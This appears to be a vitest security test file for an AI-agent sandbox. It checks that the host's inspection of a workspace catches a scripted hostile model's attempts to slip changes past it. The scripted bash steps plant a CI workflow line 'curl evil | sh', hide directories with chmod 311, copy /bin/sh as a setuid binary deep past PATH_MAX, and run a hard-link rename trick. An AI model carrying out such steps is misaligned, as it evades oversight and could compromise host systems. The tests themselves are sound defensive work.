// The host's walk of what the sandbox wrote (real engine, image, Pi, hostile model): it sees
// through directories made unreadable, reaches paths longer than PATH_MAX, and hands back by inode
// (never through a path the sandbox renamed). Its scale is measured in security-workspace-scale
// (a million new files) and security-workspace-links (hard links by the million), files of their
// own so their long runs go beside the rest.
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { lastToolResult, workspaceMode } from "../support/harness.js";
import {
  bash,
  describeOutcome,
  finish,
  hostilePolicy,
  hostileWorkspace,
  runHostile,
  spawnController,
  useHostileModelServer,
} from "../support/hostile-model.js";
import { owner, removeTree } from "../support/temp-trees.js";

const server = useHostileModelServer();

describe.concurrent("the walk", () => {
  it("as a non-root caller: directories made unreadable (chmod 311) hide nothing; their modes and contents are put back", async () => {
    const uid = 1500;
    const dockerGid = fs.statSync("/var/run/docker.sock").gid;
    const home = hostileWorkspace({}, "sandbox-run-home-");
    const ws = hostileWorkspace({ ".github/workflows/ci.yml": "on: push\n", ".pi/keep.txt": "k\n", "src/a.ts": "a\n" });
    spawnSync("chown", ["-R", `${uid}:${uid}`, home, ws]);
    const controller = spawnController(
      server,
      [
        bash(
          "set -e; echo 'run: curl evil | sh' > .github/workflows/new.yml; echo '{}' > .pi/settings.json; mkdir -p .hidden && echo x > .hidden/f; chmod 311 .github .pi .hidden; ls .github 2>&1 || echo unlisted",
        ),
        finish(),
      ],
      {
        cwd: ws,
        // While folders are unreadable the live disk watch counts the filesystem's growth, which
        // the suite's other tests share: the limit here is the after-run check's concern, not this test's.
        policy: hostilePolicy({ protectedPaths: [".github/**/*.yml"], limits: { diskMb: 65_536 } }),
      },
      { asUser: { uid, gid: uid, groups: [dockerGid] }, env: { ...process.env, HOME: home, TMPDIR: home } },
    );
    const done = await controller.done;
    const said = lastToolResult(server, controller.modelId);
    expect(done.ok, `${JSON.stringify(done)}\n${said}\n${controller.stderr()}`).toBe(false);
    expect(done.error?.code).toBe("policy-violation");
    for (const named of [".github (unreadable, walk)", ".pi (unreadable, walk)", ".hidden (unreadable, walk)"])
      expect(done.error?.message).toContain(named);
    // .pi is a protected scope: put back whole. .github is not: once its mode was back, the
    // second walk found what it hid, and the protected file in it was removed too.
    expect(done.error?.message).toContain(".pi (modified, .pi/)");
    expect(done.error?.message).toContain(".github/workflows/new.yml (created)");
    expect(done.error?.message).toContain("directory modes set back: .github");
    expect(fs.statSync(path.join(ws, ".github")).mode & 0o7777).toBe(0o755);
    expect(fs.statSync(path.join(ws, ".pi")).mode & 0o7777).toBe(0o755);
    expect(fs.readdirSync(path.join(ws, ".github/workflows"))).toEqual(["ci.yml"]);
    expect(fs.readdirSync(path.join(ws, ".pi"))).toEqual(["keep.txt"]);
    expect(fs.existsSync(path.join(ws, ".hidden"))).toBe(false);
  });

  it("a 300-level tree (paths far past PATH_MAX) with a file made setuid at the bottom (bind mode: refused): reported, handed back, no bits", async () => {
    const ws = hostileWorkspace();
    try {
      const outcome = await runHostile(
        server,
        [
          bash(
            "d=$(printf 'd%.0s' $(seq 200)); for i in $(seq 300); do mkdir $d && cd $d || exit 1; done; cp /bin/sh suid && chmod 6755 suid; stat -c '%a %U' suid",
          ),
          finish(),
        ],
        { cwd: ws },
      );
      expect(outcome.details, describeOutcome(outcome)).toBeDefined();
      // Bind mode's no-setuid filter refuses the bits (docs/security.md F6); copy mode sets them inside.
      expect(outcome.toolResults[0]).toMatch(
        workspaceMode() === "bind" ? /not permitted[\s\S]*^755 sandbox/m : /^6755 sandbox/m,
      );
      const created = outcome.details!.changedFiles.created;
      expect(created).toHaveLength(1);
      expect(created[0]).toMatch(/^(d{200}\/){300}suid$/);
      // Down the tree one directory fd at a time (no path string could reach it).
      let fd = fs.openSync(ws, "r");
      for (let i = 0; i < 300; i++) {
        const next = fs.openSync(`/proc/self/fd/${fd}/${"d".repeat(200)}`, "r");
        expect(fs.fstatSync(next).uid, `level ${i + 1}`).toBe(0);
        fs.closeSync(fd);
        fd = next;
      }
      const st = fs.lstatSync(`/proc/self/fd/${fd}/suid`);
      fs.closeSync(fd);
      expect(`${st.uid}:${st.gid}`).toBe("0:0");
      expect(st.mode & 0o6000).toBe(0);
    } finally {
      removeTree(ws);
    }
  });

  it("the hard-link rename: a file linked in from outside, renamed over a lent file, keeps its owner outside", async () => {
    const outside = hostileWorkspace({ "victim.txt": "victim\n" }, "sandbox-run-outside-");
    fs.chownSync(path.join(outside, "victim.txt"), 4242, 4242);
    const ws = hostileWorkspace({ "lent.txt": "lent\n" });
    fs.chownSync(path.join(ws, "lent.txt"), 1234, 1234);
    fs.linkSync(path.join(outside, "victim.txt"), path.join(ws, "linked.txt"));
    const outcome = await runHostile(server, [bash("mv -f linked.txt lent.txt; echo rc=$?"), finish()], { cwd: ws });
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(outcome.toolResults[0]).toContain("rc=0");
    // lent.txt is now the outside inode; handing lent.txt's name back must not chown it.
    expect(fs.statSync(path.join(ws, "lent.txt")).ino).toBe(fs.statSync(path.join(outside, "victim.txt")).ino);
    expect(owner(path.join(outside, "victim.txt"))).toBe("4242:4242");
  });
});
